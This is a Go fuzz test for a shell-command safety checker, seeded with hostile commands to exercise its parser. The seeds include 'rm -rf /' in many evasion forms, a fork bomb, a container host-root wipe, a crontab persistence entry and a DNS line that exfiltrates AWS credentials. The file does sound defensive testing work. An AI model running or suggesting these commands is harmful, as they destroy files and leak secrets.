package safety

import (
	"bufio"
	"os"
	"strings"
	"testing"
)

// FuzzCheck feeds Check arbitrary text: it must never panic, and the verdict must be the highest risk of
// its findings. The seed corpus is the labelled corpus plus shapes that stress the parser and walker,
// including those past its bounds.
func FuzzCheck(f *testing.F) {
	seeds := []string{"", "rm -rf /", ":(){ :|:& };:", "bash -c 'bash -c \"rm -rf /\"'", "{1..100000}",
		"$'\\x72\\x6d' -rf /", "echo $(echo $(echo $(ls)))", "f(){ f; }; f", "a=$a$a; $a", "x <<EOF\n$(rm -rf /)\nEOF",
		"find / -exec sh -c 'rm -rf {}' \\;", "echo / | xargs -I{} rm -rf {}", "cd / && rm -rf *",
		"python -c 'import os; os.system(\"rm -rf /\")'", "sed 's/x/y/e'", "awk 'BEGIN{system(\"id\")}'",
		"eval eval eval eval eval eval eval eval eval eval rm -rf /", "\"unterminated", "((", "${x:?}", "`ls`",
		// Evasions: hidden names and targets, side doors, containers, persistence.
		"/bin/r? -rf /", "IFS=,; x=rm,-rf,/; $x", "rm${IFS}-rf${IFS}/", "$(printf '\\x72\\x6d') -rf ~",
		"rm -rf ${HOME%/*}", "rm -rf ${HOME//u/}", "rm -rf ${HOME:0:1}", "f(){ rm -rf \"$1\"; }; f /",
		"bash <(echo 'rm -rf ~')", "python3 - <<< 'import shutil; shutil.rmtree(\"/\")'",
		"docker run -v /:/host alpine chroot /host rm -rf /", "echo '* * * * * rm -rf ~' | crontab -",
		"dig $(cat ~/.aws/credentials | base64).x.com", "cd ../../../.. && rm -rf *", "${x/#*/\\/}"}
	for _, s := range seeds {
		f.Add(s)
	}
	// Shapes past the walker's bounds (complex_shapes_test.go), small enough to mutate quickly.
	for _, s := range pathological {
		f.Add(s.gen(4 << 10))
	}
	if file, err := os.Open("testdata/corpus.tsv"); err == nil {
		sc := bufio.NewScanner(file)
		for sc.Scan() {
			if _, cmd, ok := strings.Cut(sc.Text(), "\t"); ok {
				f.Add(cmd)
			}
		}
		file.Close()
	}
	f.Fuzz(func(t *testing.T, cmd string) {
		v := Check(cmd, Options{Home: "/home/u"})
		top := Safe
		for _, fd := range v.Findings {
			if fd.Risk > top {
				top = fd.Risk
			}
			if fd.Span.Start < 0 || fd.Span.End > len(cmd) || fd.Span.Start > fd.Span.End {
				t.Fatalf("finding %s has span %v outside the %d-byte command", fd.Rule, fd.Span, len(cmd))
			}
			if fd.Rule == "internal-error" {
				t.Fatalf("rule panicked: %s", fd.Message)
			}
		}
		if v.Risk != top {
			t.Fatalf("verdict %s but highest finding %s", v.Risk, top)
		}
	})
}
